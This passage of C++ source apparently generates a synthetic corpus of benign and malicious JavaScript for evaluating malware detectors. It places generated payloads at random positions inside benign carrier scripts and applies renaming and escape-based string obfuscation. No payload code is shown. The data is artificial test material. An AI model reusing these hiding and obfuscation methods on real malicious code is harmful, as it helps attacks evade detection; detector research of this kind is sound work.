  if (rng.chance(0.15)) {
    src += gen_benign_edgecase(g);
  }
  if (genre_out != nullptr) *genre_out = tag;
  return src;
}

std::string generate_malicious(Rng& rng, std::string* family_out) {
  Gen g{rng, static_cast<int>(rng.below(100)) * 10};
  const Genre& fam = kMaliciousFamilies[rng.below(kMaliciousFamilies.size())];
  std::string payload = fam.fn(g);
  if (family_out != nullptr) *family_out = fam.name;

  // Malware is overwhelmingly injected INTO legitimate scripts (infected
  // libraries, compromised pages): the payload is a small part of a larger
  // benign carrier, at a random position. This is what makes real-world
  // detection hard — aggregate statistics are dominated by the carrier, so
  // detectors must key on payload-local features.
  if (rng.chance(0.5)) {
    const int blocks = 1 + static_cast<int>(rng.below(3));
    const int payload_at = static_cast<int>(rng.below(
        static_cast<std::uint64_t>(blocks) + 1));
    std::string out;
    for (int b = 0; b <= blocks; ++b) {
      if (b == payload_at) {
        out += payload + "\n";
      }
      if (b < blocks) {
        out += kBenignGenres[rng.below(kBenignGenres.size())].fn(g) + "\n";
      }
    }
    return out;
  }
  return payload;
}

std::string wild_obfuscate(const std::string& source, Rng& rng,
                           bool heavy) {
  // The wild samples in the paper's corpora were obfuscated by unknown
  // tools, NOT the four tools used for the test-time re-obfuscation. This
  // model uses deliberately different machinery: short-name renaming and
  // classic unescape("%xx") string hiding.
  js::Ast ast = js::parse(source);
  obf::rename_variables(ast, obf::NameStyle::kShort, rng);
  if (heavy) {
    obf::escape_encode_strings(ast, rng, /*min_len=*/4, /*p=*/0.8);
  }
  return js::print(ast.root, js::PrintStyle::kMinified);
}

Corpus generate_corpus(const GeneratorConfig& cfg) {
  Rng rng(cfg.seed);
  Corpus corpus;
  corpus.samples.reserve(cfg.benign_count + cfg.malicious_count);

  for (std::size_t i = 0; i < cfg.benign_count; ++i) {
    Sample s;
    s.label = 0;
    s.source = generate_benign(rng, &s.family);
    s.origin = rng.chance(0.7) ? "150k-js-dataset" : "alexa-top10k";
    if (cfg.apply_wild_obfuscation) {
      // Moog et al. rates: most benign scripts are minified; ~6% use
      // variable obfuscation; ~3% string obfuscation.
      const double roll = rng.uniform();
      if (roll < 0.03) {
        s.source = wild_obfuscate(s.source, rng, /*heavy=*/true);
      } else if (roll < 0.03 + cfg.benign_renamed_rate) {
        s.source = wild_obfuscate(s.source, rng, /*heavy=*/false);
      } else if (roll <
                 0.03 + cfg.benign_renamed_rate + cfg.benign_minified_rate) {
        s.source = obf::minify(s.source);
      }
    }
    corpus.samples.push_back(std::move(s));
  }

  for (std::size_t i = 0; i < cfg.malicious_count; ++i) {
    Sample s;
    s.label = 1;
    s.source = generate_malicious(rng, &s.family);
    const double origin_roll = rng.uniform();
    s.origin = origin_roll < 0.92 ? "hynek-petrak"
               : origin_roll < 0.96 ? "geeks-on-security" : "virustotal";
    if (cfg.apply_wild_obfuscation && rng.chance(cfg.malicious_preobf_rate)) {
      // Malicious wild samples combine renaming and string hiding more
      // aggressively (25-27% variable, 17-21% string per Moog et al.,
      // conditioned on being obfuscated at all).
      s.source = wild_obfuscate(s.source, rng, /*heavy=*/rng.chance(0.5));
    }
    corpus.samples.push_back(std::move(s));
  }
  return corpus;
}

}  // namespace jsrev::dataset
